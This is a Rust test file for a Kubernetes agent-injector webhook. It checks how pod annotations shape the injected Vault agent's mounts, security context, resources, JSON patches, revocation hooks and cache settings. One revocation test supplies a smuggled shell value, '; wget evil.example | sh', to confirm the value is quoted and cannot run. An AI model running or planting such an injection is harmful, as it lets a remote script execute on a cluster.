//! Container-shaping annotations: secrets mounted into agents, copied mounts, process
//! namespace, JSON patches, security context, resources, revocation, cache and quit.

use serde_json::json;

use super::tests::*;
use super::tests_shapes::stock;
use super::*;
use crate::settings::AgentFlavor;

#[test]
fn extra_secret_and_tls_secret_are_mounted_read_only_in_agents() {
    let p = pod(&with(&[
        ("agent-extra-secret", "extra"),
        ("tls-secret", "vault-tls"),
    ]));
    let out = injected(&p, &settings());
    let volumes = &out.spec.as_ref().unwrap().volumes.as_ref().unwrap();
    let secret_of = |name: &str| {
        volumes
            .iter()
            .find(|v| v.name == name)
            .and_then(|v| v.secret.clone())
            .and_then(|s| s.secret_name)
    };
    assert_eq!(secret_of("extra-secrets").as_deref(), Some("extra"));
    assert_eq!(secret_of("vault-tls-secrets").as_deref(), Some("vault-tls"));
    let agent = container(&out, "vault-agent");
    for (name, path) in [
        ("extra-secrets", "/vault/custom"),
        ("vault-tls-secrets", "/vault/tls"),
    ] {
        let m = agent
            .volume_mounts
            .iter()
            .flatten()
            .find(|m| m.name == name)
            .unwrap();
        assert_eq!((m.mount_path.as_str(), m.read_only), (path, Some(true)));
    }
    assert!(
        !mount_paths(container(&out, "app"))
            .iter()
            .any(|(n, _)| *n == "extra-secrets")
    );
}

#[test]
fn agent_copy_volume_mounts_skips_service_account_mounts() {
    let mut p = pod(&with(&[("agent-copy-volume-mounts", "app")]));
    let app = &mut p.spec.as_mut().unwrap().containers[0];
    app.volume_mounts
        .as_mut()
        .unwrap()
        .push(serde_json::from_value(json!({"name": "certs", "mountPath": "/etc/certs"})).unwrap());
    let out = injected(&p, &settings());
    let agent = mount_paths(container(&out, "vault-agent"));
    assert!(agent.contains(&("certs", "/etc/certs")));
    assert_eq!(
        agent.iter().filter(|(_, path)| *path == TOKEN_DIR).count(),
        1
    );
    let err = denied(
        &pod(&with(&[("agent-copy-volume-mounts", "nope")])),
        &settings(),
    );
    assert!(
        err.contains("agent-copy-volume-mounts") && err.contains("\"nope\""),
        "{err}"
    );
}

#[test]
fn agent_share_process_namespace() {
    let out = injected(
        &pod(&with(&[("agent-share-process-namespace", "true")])),
        &settings(),
    );
    assert_eq!(
        out.spec.as_ref().unwrap().share_process_namespace,
        Some(true)
    );
    let untouched = injected(&pod(BASIC), &settings());
    assert_eq!(
        untouched.spec.as_ref().unwrap().share_process_namespace,
        None
    );
    let mut refuses = pod(&with(&[("agent-share-process-namespace", "true")]));
    refuses.spec.as_mut().unwrap().share_process_namespace = Some(false);
    assert!(denied(&refuses, &settings()).contains("shareProcessNamespace"));
}

#[test]
fn json_patches_apply_to_their_container() {
    let p = pod(&with(&[
        ("agent-pre-populate", "true"),
        ("agent-native-sidecar", "false"),
        (
            "agent-json-patch",
            r#"[{"op":"replace","path":"/image","value":"custom/agent:2"}]"#,
        ),
        (
            "agent-init-json-patch",
            r#"[{"op":"add","path":"/workingDir","value":"/tmp"}]"#,
        ),
    ]));
    let out = injected(&p, &settings());
    assert_eq!(
        container(&out, "vault-agent").image.as_deref(),
        Some("custom/agent:2")
    );
    assert_eq!(
        container(&out, "vault-agent-init").image.as_deref(),
        Some(concat!("kagi-agent:", env!("CARGO_PKG_VERSION")))
    );
    assert_eq!(
        container(&out, "vault-agent-init").working_dir.as_deref(),
        Some("/tmp")
    );

    let broken = pod(&with(&[(
        "agent-json-patch",
        r#"[{"op":"remove","path":"/nothing/here"}]"#,
    )]));
    let err = denied(&broken, &settings());
    assert!(
        err.contains("vault.hashicorp.com/agent-json-patch") && err.contains("vault-agent"),
        "{err}"
    );
}

#[test]
fn run_as_and_security_context_annotations() {
    let p = pod(&with(&[
        ("agent-run-as-user", "0"),
        ("agent-run-as-group", "3000"),
    ]));
    let sc = container(&injected(&p, &settings()), "vault-agent")
        .security_context
        .clone()
        .unwrap();
    assert_eq!(
        (sc.run_as_user, sc.run_as_group, sc.run_as_non_root),
        (Some(0), Some(3000), Some(false))
    );

    let mut same = pod(&with(&[("agent-run-as-same-user", "true")]));
    let app = &mut same.spec.as_mut().unwrap().containers[0];
    app.security_context = Some(serde_json::from_value(json!({"runAsUser": 4242})).unwrap());
    let sc = container(&injected(&same, &settings()), "vault-agent")
        .security_context
        .clone()
        .unwrap();
    assert_eq!(sc.run_as_user, Some(4242));
    assert!(
        denied(
            &pod(&with(&[("agent-run-as-same-user", "true")])),
            &settings()
        )
        .contains("runAsUser")
    );

    let openshift = injected(
        &pod(&with(&[("agent-set-security-context", "false")])),
        &settings(),
    );
    let sc = container(&openshift, "vault-agent")
        .security_context
        .clone()
        .unwrap();
    assert_eq!(
        (sc.run_as_user, sc.run_as_group, sc.run_as_non_root),
        (None, None, None)
    );
    assert_eq!(
        (sc.read_only_root_filesystem, sc.allow_privilege_escalation),
        (Some(true), Some(false))
    );
}

#[test]
fn resources_and_image_annotations() {
    let p = pod(&with(&[
        ("agent-requests-cpu", ""),
        ("agent-requests-mem", "32Mi"),
        ("agent-requests-ephemeral", "1Gi"),
        ("agent-limits-cpu", "1"),
        ("agent-limits-mem", ""),
        ("agent-limits-ephemeral", "2Gi"),
        ("agent-image", "openbao/openbao:2.4.0"),
    ]));
    let agent = container(&injected(&p, &settings()), "vault-agent").clone();
    assert_eq!(
        serde_json::to_value(agent.resources.unwrap()).unwrap(),
        json!({"requests": {"memory": "32Mi", "ephemeral-storage": "1Gi"}, "limits": {"cpu": "1", "ephemeral-storage": "2Gi"}})
    );
    assert_eq!(agent.image.as_deref(), Some("openbao/openbao:2.4.0"));
}

#[test]
fn agent_revoke_on_shutdown_per_flavour_and_shape() {
    let revoke = pod(&with(&[
        ("agent-revoke-on-shutdown", "true"),
        ("agent-revoke-grace", "7"),
    ]));
    let native = injected(&revoke, &settings());
    let agent = container(&native, "vault-agent");
    assert_eq!(config(agent)["kagi"]["revoke_on_shutdown"], true);
    assert!(
        agent.lifecycle.is_none(),
        "a native sidecar stops after the app: no grace needed"
    );

    let classic_out = injected(&revoke, &classic());
    let sidecar = container(&classic_out, "vault-agent");
    assert_eq!(
        sidecar
            .lifecycle
            .as_ref()
            .unwrap()
            .pre_stop
            .as_ref()
            .unwrap()
            .sleep
            .as_ref()
            .unwrap()
            .seconds,
        7
    );
    assert!(
        config(container(&classic_out, "vault-agent-init"))["kagi"]
            .get("revoke_on_shutdown")
            .is_none()
    );

    let with_ca = pod(&with(&[
        ("agent-revoke-on-shutdown", "true"),
        ("ca-cert", "/vault/tls/ca.crt"),
    ]));
    let pre_stop = |pod: &Pod| {
        container(&injected(pod, &stock(classic())), "vault-agent")
            .lifecycle
            .clone()
            .unwrap()
            .pre_stop
            .unwrap()
            .exec
            .unwrap()
            .command
            .unwrap()
    };
    assert_eq!(
        pre_stop(&with_ca),
        [
            "/bin/sh",
            "-c",
            "/bin/sleep 5 && /bin/vault token revoke -address='https://vault.vault.svc:8200' -ca-cert='/vault/tls/ca.crt' -self"
        ]
    );
    // An annotation value cannot add shell commands to the hook.
    let hostile = pod(&with(&[
        ("agent-revoke-on-shutdown", "true"),
        ("client-cert", "/c.crt; wget evil.example | sh; echo 'x"),
    ]));
    let hook = pre_stop(&hostile);
    assert!(
        hook[2].contains(r"-client-cert='/c.crt; wget evil.example | sh; echo '\''x' -self"),
        "{hook:?}"
    );
    // The flag sets the default.
    let flag = InjectorSettings {
        revoke_on_shutdown: true,
        ..settings()
    };
    assert_eq!(
        config(container(&injected(&pod(BASIC), &flag), "vault-agent"))["kagi"]["revoke_on_shutdown"],
        true
    );
}

#[test]
fn cache_and_quit() {
    let cached = pod(&with(&[
        ("agent-cache-enable", "true"),
        ("agent-cache-exit-on-err", "true"),
        ("agent-cache-listener-port", "8300"),
        ("agent-cache-use-auto-auth-token", "force"),
    ]));
    // Classic init + sidecar: persistent cache for both.
    let out = injected(&cached, &classic());
    assert!(volume_names(&out).contains(&"vault-agent-cache"));
    for name in ["vault-agent-init", "vault-agent"] {
        let c = config(container(&out, name));
        assert_eq!(
            c["listener"],
            json!([{"type": "tcp", "address": "127.0.0.1:8300", "tls_disable": true}])
        );
        assert_eq!(
            c["cache"],
            json!({"use_auto_auth_token": "force", "persist": {"type": "kubernetes", "path": "/vault/agent-cache", "exit_on_err": true}})
        );
        assert!(
            mount_paths(container(&out, name))
                .contains(&("vault-agent-cache", "/vault/agent-cache"))
        );
    }
    // Native sidecar: in-memory cache.
    let native = config(container(&injected(&cached, &settings()), "vault-agent"));
    assert_eq!(native["cache"], json!({"use_auto_auth_token": "force"}));
    // Init only: nothing.
    let only = pod(&with(&[
        ("agent-cache-enable", "true"),
        ("agent-pre-populate-only", "true"),
    ]));
    let c = config(container(&injected(&only, &settings()), "vault-agent-init"));
    assert!(c.get("cache").is_none() && c.get("listener").is_none());

    let quit = config(container(
        &injected(&pod(&with(&[("agent-enable-quit", "true")])), &settings()),
        "vault-agent",
    ));
    assert_eq!(
        quit["listener"],
        json!([{"type": "tcp", "address": "127.0.0.1:8200", "tls_disable": true, "agent_api": {"enable_quit": true}}])
    );
    assert_eq!(quit["cache"], json!({}));
}

#[test]
fn pod_without_volumes_or_annotations_map_gets_arrays_created() {
    let mut p = pod(BASIC);
    let spec = p.spec.as_mut().unwrap();
    spec.volumes = None;
    spec.containers[0].volume_mounts = None;
    let Ok(Mutation::Injected(out)) = mutate_pod_template(&p, &classic(), "apps") else {
        panic!("expected injection");
    };
    assert_eq!(
        volume_names(&out),
        [
            "home-init",
            "home-sidecar",
            "vault-secrets",
            "kagi-agent-state"
        ]
    );
    assert_eq!(
        mount_paths(container(&out, "app")),
        [("vault-secrets", "/vault/secrets")]
    );
}

#[test]
fn every_generated_config_loads_in_the_agent_without_unknown_keys() {
    let busy = pod(&with(&[
        ("agent-cache-enable", "true"),
        ("agent-enable-quit", "true"),
        ("agent-inject-token", "true"),
        ("agent-revoke-on-shutdown", "true"),
        ("agent-telemetry-prometheus-retention-time", "24h"),
        ("agent-inject-perms-db", "0400"),
        ("agent-inject-command-db", "true"),
        ("auth-min-backoff", "1s"),
        ("template-lease-renewal-threshold", "0.8"),
    ]));
    for flavour in [AgentFlavor::Kagi, AgentFlavor::Vault] {
        for native in [true, false] {
            let s = InjectorSettings {
                native_sidecar: native,
                agent_flavor: flavour,
                ..settings()
            };
            let out = injected(&busy, &s);
            for agent in init_containers(&out)
                .iter()
                .chain(&out.spec.as_ref().unwrap().containers)
            {
                if agent.name == "app" {
                    continue;
                }
                let text = config_text(agent);
                let loaded = kagi_agent_config::AgentConfig::from_json(text.as_bytes())
                    .unwrap_or_else(|e| panic!("{flavour} native={native} {}: {e}", agent.name));
                assert!(loaded.unknown_keys.is_empty(), "{:?}", loaded.unknown_keys);
                assert_eq!(loaded.config.kagi.is_some(), flavour == AgentFlavor::Kagi);
            }
        }
    }
}
